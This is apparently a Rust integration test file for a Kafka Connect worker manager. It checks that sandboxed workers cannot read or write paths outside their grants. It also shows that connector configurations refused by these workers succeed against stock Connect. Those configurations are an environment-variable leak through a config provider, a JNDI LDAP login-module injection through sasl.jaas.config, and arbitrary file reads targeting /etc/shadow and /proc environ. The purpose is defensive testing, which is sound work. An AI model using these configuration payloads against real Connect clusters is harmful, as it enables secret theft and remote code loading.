//! What a worker may open, and attacks that work on plain Kafka Connect: each is shown there first, then here.

use crate::ground::{Broker, Ground, PATIENCE, launch};
use crate::with_connect::{SOURCE, await_status, first_record, up};
use anyhow::{Context, Result, bail, ensure};
use runnel::fleet::connect_rest::RunState;
use runnel::fleet::{ConnectClient, RestError, WorkerAccess};
use runnel_api::Secret;
use serde_json::json;
use std::collections::BTreeMap;
use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const SINK: &str = "org.apache.kafka.connect.file.FileStreamSinkConnector";
const JAVA: &str = "/usr/bin/java";

type Settings = BTreeMap<String, String>;

fn settings(pairs: &[(&str, &str)]) -> Settings {
    let owned = |text: &&str| (*text).to_owned();
    pairs
        .iter()
        .map(|(key, value)| (owned(key), owned(value)))
        .collect()
}

fn text(path: &Path) -> &str {
    path.to_str().expect("paths of these tests are UTF-8")
}

/// The trace of the one task of a connector that this file makes fail; the connector is removed again.
async fn trace(client: &ConnectClient, name: &str, config: &Settings) -> Result<String> {
    client.create_stopped(name, config).await?;
    client.resume(name).await?;
    await_status(client, name, |status| {
        status.as_ref().is_ok_and(|status| {
            status
                .tasks
                .first()
                .is_some_and(|task| task.state == RunState::Failed)
        })
    })
    .await?;
    let status = client.status(name).await?;
    client.delete(name).await?;
    status.tasks[0].trace.clone().context("a trace")
}

#[tokio::test]
async fn a_worker_opens_what_it_was_given_and_nothing_else() -> Result<()> {
    if let Err(why) = runnel::fleet::landlock() {
        eprintln!("SKIPPED: no Landlock: {why}");
        return Ok(());
    }
    let broker = Broker::shared()?;
    let ground = Ground::new()?;
    let at = |name: &str| ground.path().join(name);
    for folder in ["given", "kept", "out"] {
        fs::create_dir(at(folder))?;
        fs::write(at(folder).join("lines"), "canary\n")?;
    }
    ground.fleet().set_worker_access(WorkerAccess {
        readable: vec![at("given"), at("missing")],
        writable: vec![at("out")],
        ..WorkerAccess::default()
    });
    let launch = launch(
        broker.runtime("4.3", "4.3.1")?,
        &broker.bootstrap,
        Path::new(JAVA),
    );
    broker.make_topics(&launch).await?;
    ground.fleet().prepare(launch.connector_id)?;
    // Another connector's secrets, as the daemon writes them.
    let other = uuid::Uuid::new_v4();
    ground.fleet().prepare(other)?;
    let references = ground.fleet().write_secrets(
        other,
        &BTreeMap::from([("p".to_owned(), Secret::new("canary"))]),
    )?;
    let theirs = runnel::fleet::file_of_reference(&references["p"]).context("a file")?;
    let client = up(&ground, &launch).await?;

    let topic = format!("{}-given", launch.connector);
    let given = at("given").join("lines");
    let source = |file: &str, topic: &str| {
        settings(&[
            ("connector.class", SOURCE),
            ("tasks.max", "1"),
            ("topic", topic),
            ("file", file),
        ])
    };
    client
        .create_stopped("given", &source(text(&given), &topic))
        .await?;
    client.resume("given").await?;
    assert_eq!(first_record(&broker.bootstrap, &topic).await?, "canary");

    let memory = format!("/proc/{}/environ", std::process::id());
    let kept = at("kept").join("lines");
    let mut denied = vec![text(&kept), text(&theirs), memory.as_str()];
    if rustix::process::geteuid().is_root() {
        denied.extend(["/etc/passwd", "/etc/shadow"]);
    }
    for file in denied {
        let trace = trace(&client, "reader", &source(file, "never")).await?;
        ensure!(trace.contains("AccessDeniedException"), "{file}: {trace}");
    }
    for (file, may) in [
        (at("out").join("new"), true),
        (at("given").join("new"), false),
        (kept, false),
    ] {
        let sink = settings(&[
            ("connector.class", SINK),
            ("tasks.max", "1"),
            ("topics", &topic),
            ("file", text(&file)),
        ]);
        if may {
            client.create_stopped("writer", &sink).await?;
            client.resume("writer").await?;
            let end = Instant::now() + PATIENCE;
            // The sink tells nobody when it has written.
            while fs::read_to_string(&file).unwrap_or_default() != "canary\n" {
                ensure!(
                    Instant::now() < end,
                    "nothing was written: {:?}",
                    client.status("writer").await
                );
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            client.delete("writer").await?;
        } else {
            let trace = trace(&client, "writer", &sink).await?;
            ensure!(
                trace.contains("AccessDeniedException"),
                "{}: {trace}",
                file.display()
            );
        }
    }
    assert_eq!(fs::read_to_string(at("kept").join("lines"))?, "canary\n");
    Ok(())
}

/// Kafka Connect as it comes, with the file connectors. Killed on drop.
struct Plain {
    process: Child,
    log: std::path::PathBuf,
    url: String,
}

impl Drop for Plain {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

impl Plain {
    async fn start(folder: &Path, broker: &Broker, properties: &[&str]) -> Result<Self> {
        let runtime = broker.runtime("4.3", "4.3.1")?;
        let port = TcpListener::bind("127.0.0.1:0")?.local_addr()?.port();
        let url = format!("http://127.0.0.1:{port}");
        let converter = "org.apache.kafka.connect.storage.StringConverter";
        let worker = folder.join("plain.properties");
        fs::write(
            &worker,
            format!(
                "bootstrap.servers={}\nlisteners={url}\nplugin.discovery=service_load\n\
                 key.converter={converter}\nvalue.converter={converter}\n\
                 offset.storage.file.filename={}\n",
                broker.bootstrap,
                folder.join("offsets").display()
            ),
        )?;
        let log4j = folder.join("log4j2.yaml");
        fs::write(
            &log4j,
            "Configuration:\n  Appenders:\n    Console: {name: C, PatternLayout: {pattern: '%m%n'}}\n  \
             Loggers:\n    Root: {level: INFO, AppenderRef: {ref: C}}\n",
        )?;
        let log = folder.join("plain.log");
        let output = fs::File::create(&log)?;
        let process = Command::new(JAVA)
            .args(["-Xmx256m", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1"])
            .arg(format!("-Dlog4j2.configurationFile={}", log4j.display()))
            .args(properties)
            .arg("-cp")
            .arg(runtime.libs.join("*"))
            .arg("org.apache.kafka.connect.cli.ConnectStandalone")
            .arg(&worker)
            .env_clear()
            .env("CANARY", "canary-of-the-environment")
            .stdin(Stdio::null())
            .stdout(output.try_clone()?)
            .stderr(output)
            .spawn()?;
        let plain = Self { process, log, url };
        let end = Instant::now() + PATIENCE;
        let client = runnel::http_client::plain().build()?;
        while !client
            .get(format!("{}/connectors", plain.url))
            .send()
            .await
            .is_ok_and(|answer| answer.status().is_success())
        {
            ensure!(Instant::now() < end, "{}", fs::read_to_string(&plain.log)?);
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        Ok(plain)
    }

    fn post(&self, name: &str, config: &Settings) -> Result<reqwest::RequestBuilder> {
        let client = runnel::http_client::plain().build()?;
        Ok(client
            .post(format!("{}/connectors", self.url))
            .json(&json!({"name": name, "config": config})))
    }

    async fn create(&self, name: &str, config: &Settings) -> Result<()> {
        let answer = self.post(name, config)?.send().await?;
        ensure!(
            answer.status().is_success(),
            "{name}: {}",
            answer.text().await?
        );
        Ok(())
    }

    async fn says(&self, word: &str) -> Result<()> {
        let end = Instant::now() + PATIENCE;
        while !fs::read_to_string(&self.log)?.contains(word) {
            if Instant::now() > end {
                bail!("never said {word}: {}", fs::read_to_string(&self.log)?);
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        Ok(())
    }
}

/// Attacks by a connector's configuration alone. The last one needs Kafka as it was before 3.4, which
/// forbade no login module; emptying the list of those forbidden brings that back.
#[tokio::test]
async fn attacks_that_work_on_plain_connect_are_refused_by_our_workers() -> Result<()> {
    let broker = Broker::shared()?;
    let ground = Ground::new()?;
    let folder = ground.path().join("plain");
    fs::create_dir(&folder)?;
    let canary = folder.join("canary");
    fs::write(&canary, "canary-of-the-disk\n")?;
    let naming = TcpListener::bind("127.0.0.1:0")?;
    naming.set_nonblocking(true)?;
    let base = |extra: &[(&str, &str)]| {
        let mut config = settings(&[
            ("connector.class", SOURCE),
            ("tasks.max", "1"),
            ("topic", "plain-lines"),
        ]);
        config.insert("file".into(), canary.display().to_string());
        config.extend(settings(extra));
        config
    };
    let provider = base(&[
        ("producer.override.config.providers", "env"),
        (
            "producer.override.config.providers.env.class",
            "org.apache.kafka.common.config.provider.EnvVarConfigProvider",
        ),
        ("producer.override.client.id", "${env:CANARY}"),
    ]);
    let address = naming.local_addr()?;
    let login = base(&[
        ("producer.override.security.protocol", "SASL_PLAINTEXT"),
        ("producer.override.sasl.mechanism", "PLAIN"),
        (
            "producer.override.sasl.jaas.config",
            &format!(
                "com.sun.security.auth.module.JndiLoginModule required \
                 user.provider.url=\"ldap://{address}/x\" group.provider.url=\"x\" useFirstPass=\"true\";"
            ),
        ),
    ]);

    let plain = Plain::start(
        &folder,
        &broker,
        &["-Dorg.apache.kafka.disallowed.login.modules="],
    )
    .await?;
    plain.create("file", &base(&[])).await?;
    assert_eq!(
        first_record(&broker.bootstrap, "plain-lines").await?,
        "canary-of-the-disk"
    );
    plain.create("provider", &provider).await?;
    plain.says("client.id = canary-of-the-environment").await?;
    // Connect answers once the login has failed, and that waits for the naming service.
    let asked = plain.post("login", &login)?;
    let asked = tokio::spawn(asked.send());
    let end = Instant::now() + PATIENCE;
    while naming.accept().is_err() {
        ensure!(
            Instant::now() < end,
            "nobody asked: {}",
            fs::read_to_string(&plain.log)?
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    asked.abort();
    drop(plain);

    let launch = launch(
        broker.runtime("4.3", "4.3.1")?,
        &broker.bootstrap,
        Path::new(JAVA),
    );
    broker.make_topics(&launch).await?;
    ground.fleet().prepare(launch.connector_id)?;
    let client = up(&ground, &launch).await?;
    if runnel::fleet::landlock().is_ok() {
        let trace = trace(&client, "file", &base(&[])).await?;
        ensure!(trace.contains("AccessDeniedException"), "{trace}");
    }
    for (name, config) in [("provider", &provider), ("login", &login)] {
        let refused = client.create_stopped(name, config).await;
        let Err(RestError::Status { code: 400, .. }) = &refused else {
            bail!("{name} is not refused: {refused:?}");
        };
    }
    ensure!(
        naming.accept().is_err(),
        "the worker asked the naming service"
    );
    Ok(())
}
